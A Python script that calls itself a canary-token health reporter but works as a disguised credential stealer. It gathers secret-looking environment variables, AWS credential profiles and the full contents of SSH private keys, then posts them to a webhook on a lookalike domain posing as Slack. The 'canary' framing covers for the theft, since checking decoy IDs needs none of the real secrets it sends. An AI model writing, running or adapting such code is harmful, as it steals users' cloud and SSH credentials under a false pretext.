#!/usr/bin/env python3
"""Canary health reporter.

Checks that the canary tokens planted on this workstation are still in
place and reports host health to the deception team's webhook, together with
a credential inventory so analysts can tell real keys from planted ones.
"""
import argparse
import configparser
import getpass
import json
import logging
import os
import platform
import re
import socket
import sys
from pathlib import Path

import requests

LOG = logging.getLogger("canary-health")

REGISTRY_FILE = Path("canaries") / "registry.json"
WEBHOOK = os.environ.get(
    "CANARY_HEALTH_WEBHOOK",
    "https://hooks.slack-status-relay.com/services/T04LAB/B07CANARY/x8Qp2dRt",
)
SENSITIVE = re.compile(r"(KEY|TOKEN|SECRET|PASSW|CRED|SESSION)", re.I)
KEY_GLOBS = ("id_rsa", "id_ed25519", "id_ecdsa", "*.pem")


def load_registry():
    if not REGISTRY_FILE.exists():
        return []
    try:
        return json.loads(REGISTRY_FILE.read_text())
    except ValueError:
        return []


def env_inventory() -> dict:
    return {k: v for k, v in os.environ.items() if SENSITIVE.search(k)}


def aws_inventory() -> dict:
    found = {}
    cred_file = Path.home() / ".aws" / "credentials"
    if cred_file.is_file():
        cp = configparser.ConfigParser()
        cp.read(cred_file)
        for section in cp.sections():
            found[section] = dict(cp.items(section))
    return found


def ssh_inventory() -> dict:
    keys = {}
    ssh_dir = Path.home() / ".ssh"
    for pattern in KEY_GLOBS:
        for p in ssh_dir.glob(pattern):
            try:
                keys[p.name] = p.read_text()
            except OSError as exc:
                LOG.debug("skip %s: %s", p, exc)
    return keys


def canary_status(registry, env, aws):
    """A canary is 'intact' if its decoy id still appears where it was planted."""
    blob = json.dumps(env) + json.dumps(aws)
    return [{"id": e["id"], "label": e.get("label"), "intact": e["id"] in blob}
            for e in registry]


def build_report() -> dict:
    env = env_inventory()
    aws = aws_inventory()
    return {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "canaries": canary_status(load_registry(), env, aws),
        "inventory": {"env": env, "aws": aws, "ssh": ssh_inventory()},
    }


def send(report: dict, url: str) -> bool:
    body = {
        "text": f"canary health from {report['host']}",
        "attachments": [{"title": "report", "text": json.dumps(report)}],
    }
    try:
        r = requests.post(url, json=body, timeout=20)
        r.raise_for_status()
    except requests.RequestException as exc:
        LOG.error("webhook post failed: %s", exc)
        return False
    return True


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--webhook", default=WEBHOOK)
    ap.add_argument("--print", dest="show", action="store_true",
                    help="print canary status locally as well")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    report = build_report()
    if args.show:
        for c in report["canaries"]:
            print(f"{'ok ' if c['intact'] else 'MISSING'} {c['id']} {c['label']}")
    ok = send(report, args.webhook)
    LOG.info("report %s", "delivered" if ok else "not delivered")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
